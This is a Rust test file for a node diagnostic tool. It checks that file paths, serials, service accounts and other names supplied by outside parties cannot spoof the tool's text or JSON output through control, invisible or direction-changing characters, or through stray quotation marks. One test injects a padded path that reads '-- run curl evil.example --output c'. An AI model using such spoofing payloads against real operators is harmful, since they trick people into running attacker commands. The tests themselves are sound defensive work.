//! Names that come from others cannot make the output read as another, neither as text nor as JSON.

use doctor::ServiceRegistration;
use serde_json::Value;
use terminal_text::{escaped_json, is_misleading};

use crate::setup::{MountedAt, Patient};

/// Control characters, a line separator, and characters that change the direction of text or are
/// invisible.
const MISLEADING: &str = "\u{9b}31m\u{2028}\u{202e}\u{200b}\u{e0041}";

/// A node on which each name that others choose has misleading characters.
fn patient() -> Patient {
    let mut patient = Patient::changed(|text| {
        let serial = format!("serial = \"disk-serial\"\nprovider_serial = \"serial{MISLEADING}\"");
        let text = text.replace("serial = \"disk-serial\"", &serial);
        let text = text.replace(r"plugins\link", &format!(r"plugins\link{MISLEADING}"));
        text.replace(
            r"target = 'C:\var\lib\kubelet\pods\1'",
            r"target = 'C:\gone'",
        )
    });
    let program = format!("C:\\etc\\x{MISLEADING}\x7f\r\n\x1b[0m.exe");
    patient
        .system
        .pipes
        .values_mut()
        .for_each(|pipe| pipe.program = Some(program.clone()));
    let account = Some(format!("account{MISLEADING}"));
    patient.system.service = Some(ServiceRegistration {
        command_line: program,
        account,
        restarts: Ok(true),
    });
    patient.settings.service = format!("csiproxy{MISLEADING}");
    patient.settings.log_file = Some(format!("C:\\{MISLEADING}\n.log"));
    patient.settings.show_names = true;
    patient
}

#[track_caller]
fn assert_plain(text: &str, names: &[&str]) {
    let text = anstream::adapter::strip_str(text).to_string();
    let found = text
        .chars()
        .find(|character| is_misleading(*character) && *character != '\n');
    assert_eq!(found, None, "{text:?}");
    let joined: String = text.split_whitespace().collect();
    for name in names {
        assert!(joined.contains(name), "{name} is not in {text}");
    }
}

#[test]
fn text_has_no_misleading_character() {
    let patient = patient();
    let shown = r"\u{9b}31m\u{2028}\u{202e}\u{200b}\u{e0041}";
    let of = |name: &str| format!("{name}{shown}");
    let report = patient.examine().to_string();
    let names = [
        of(r"plugins\link"),
        of(r"C:\etc\x") + r"\u{7f}\u{d}\u{a}\u{1b}[0m.exe",
        of("account"),
    ];
    assert_plain(&report, &names.each_ref().map(String::as_str));
    let comparison = doctor::compare(&patient.os(), &patient.settings.node, true).to_string();
    assert_plain(&comparison, &[&of("serial")]);
}

#[test]
fn a_name_does_not_read_as_words_of_the_output() {
    let blanks = " ".repeat(51);
    let names = [
        "c, which are expected here and need no action".to_owned(),
        format!("d{blanks}-- run curl evil.example --output c"),
    ];
    let patient = Patient::changed(|mut text| {
        for name in &names {
            let path = format!(r"C:\var\lib\kubelet\plugins\{name}");
            let file =
                format!("[[file]]\nkind = \"symlink\"\npath = '{path}'\ntarget = 'C:\\gone'\n");
            text.push_str(&file);
        }
        text
    });
    let finding = patient.complaint();
    for name in &names {
        let quoted = format!(r#""C:\var\lib\kubelet\plugins\{name}""#);
        assert!(finding.seen.contains(&quoted), "{}", finding.seen);
    }
    let text = anstream::adapter::strip_str(&patient.examine().to_string()).to_string();
    // The lines of a name after its first begin one column after those of other text.
    let joined = text.replace(&format!("\n{:14}", ""), "");
    for name in &names {
        let shown = name.replace(&blanks, &format!(" {}", r"\u{20}".repeat(50)));
        assert!(
            joined.contains(&format!(r#"\plugins\{shown}""#)),
            "{joined}"
        );
    }
    // No line is blank apart from the one before the sum.
    assert_eq!(
        text.lines().filter(|line| line.trim().is_empty()).count(),
        1,
        "{text}"
    );
}

#[test]
fn json_has_no_misleading_character_and_is_parsed_to_the_names() {
    let patient = patient();
    let report = patient.examine().to_json("node\u{202e}", "0.0.0");
    let comparison =
        doctor::compare(&patient.os(), &patient.settings.node, true).to_json("node", "0.0.0");
    for (json, name) in [(report, r"C:\etc\x"), (comparison, "serial")] {
        assert!(json.to_string().contains(MISLEADING), "{name}: {json}");
        for text in [json.to_string(), format!("{json:#}")] {
            let text = escaped_json(&text);
            assert_plain(&text, &[r"\u009b31m\u2028\u202e\u200b\udb40\udc41"]);
            assert_eq!(serde_json::from_str::<Value>(&text).expect("JSON"), json);
        }
    }
}

#[test]
fn a_quotation_mark_in_an_error_does_not_end_a_quotation() {
    let report = Patient::healthy().examine_through(MountedAt("C:\\x\" can be ignored \"\"y\\"));
    let quoting: Vec<_> = report
        .findings
        .iter()
        .filter(|finding| finding.seen.contains("can be ignored"))
        .collect();
    assert_eq!(quoting.len(), 2, "one for each volume: {report}");
    for finding in quoting {
        let parts: Vec<_> = finding.seen.split('"').collect();
        let outside = parts
            .iter()
            .step_by(2)
            .any(|part| part.contains("can be ignored"));
        assert!(parts.len() % 2 == 1 && !outside, "{}", finding.seen);
    }
}
